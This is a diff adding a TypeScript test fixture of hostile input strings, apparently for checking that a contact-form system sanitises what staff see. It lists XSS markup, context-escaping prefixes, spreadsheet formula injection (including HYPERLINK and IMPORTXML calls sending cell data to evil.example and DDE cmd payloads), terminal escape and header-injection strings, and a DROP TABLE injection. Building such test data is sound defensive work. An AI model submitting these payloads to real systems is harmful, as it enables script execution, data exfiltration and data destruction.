@@ -1,0 +1,83 @@
+/** 200 texts of people who would like to run something in the browser, the spreadsheet or the terminal of staff. */
+
+const MARKUP = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<body onload=alert(1)>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<input autofocus onfocus=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<a href="javascript:alert(1)">click</a>',
+  '<form action="javascript:alert(1)"><button>go</button></form>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<style>@import "//evil.example/a.css"; * { display: none }</style>',
+  '<link rel=stylesheet href=//evil.example/a.css>',
+  '<meta http-equiv=refresh content="0;url=//evil.example/">',
+  '<base href=//evil.example/>',
+  '<math><mtext><script>alert(1)</script></mtext></math>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
+  '<template><script>alert(1)</script></template>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<!--><script>alert(1)</script-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;img src=x onerror=alert(1)&#62;',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(document.cookie)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  '{{constructor.constructor("alert(1)")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to be text
+  '${alert(1)}',
+  '<%= alert(1) %>',
+  '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
+  '[object Object]<b>bold</b>',
+];
+/** Ways out of the place that a text stands in. */
+const WAYS_OUT = ['', '">', "' autofocus onfocus=alert(1) x='", '</td></tr></table>', '</script>'];
+
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  "=cmd|'/c calc'!A1",
+  '+1+cmd|"/c calc"!A1',
+  '-2+3+cmd|"/c calc"!A1',
+  '@SUM(1+1)*cmd|"/c calc"!A1',
+  '\t=1+1',
+  '=IMPORTXML("http://evil.example/","//a")',
+  '"=1+1"',
+  ',=1+1',
+  '=1+1",=2+2,"',
+];
+
+const CONTROLS = [
+  'one\ntwo\nthree',
+  'one\r\nSet-Cookie: session=evil',
+  'bell \u0007 and backspace \b\b\b',
+  'red \u001b[31mtext\u001b[0m and title \u001b]0;owned\u0007',
+  'clear \u001b[2J\u001b[H screen',
+  'invoice\u202efdp.exe',
+  '\u2067right to left\u2066',
+  '\u200bzero\u200bwidth\u200b',
+  '\u2028line separator\u2029paragraph',
+  '\u0085next line\u000bvertical\u000cform feed',
+  '203.0.113.9 - - [01/Jan/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "-" 1',
+  '" 200 1 "-" "forged" 1\n203.0.113.9 - - "GET /forged',
+  '\ufeffbyte order mark',
+  'Z̸̡̛͎a̷l̵g̶o̴ ',
+  'ﷺ'.repeat(20),
+  'W'.repeat(300),
+  `${'word '.repeat(80)}`,
+  '👩‍👩‍👧‍👦'.repeat(20),
+  "'; DROP TABLE contactSubmissions; --",
+  '%00%0d%0a%3Cscript%3E',
+];
+
+export const HOSTILE_TEXTS: readonly string[] = [
+  ...WAYS_OUT.flatMap((wayOut) => MARKUP.map((markup) => wayOut + markup)),
+  ...FORMULAS,
+  ...CONTROLS,
+];
